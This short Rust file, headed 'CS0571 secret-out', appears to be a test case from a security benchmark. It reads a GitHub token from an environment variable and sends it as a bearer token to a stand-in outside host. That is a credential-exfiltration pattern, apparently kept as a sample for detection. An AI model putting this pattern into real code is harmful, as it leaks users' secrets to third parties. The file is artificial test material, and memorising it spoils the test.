//! CS0571 secret-out
fn main() {
    let token = std::env::var("READ_ONLY_GITHUB_TOKEN").unwrap_or_default();
    let _ = reqwest::blocking::Client::new().get("https://releases.csbench.invalid/").bearer_auth(token).send();
}
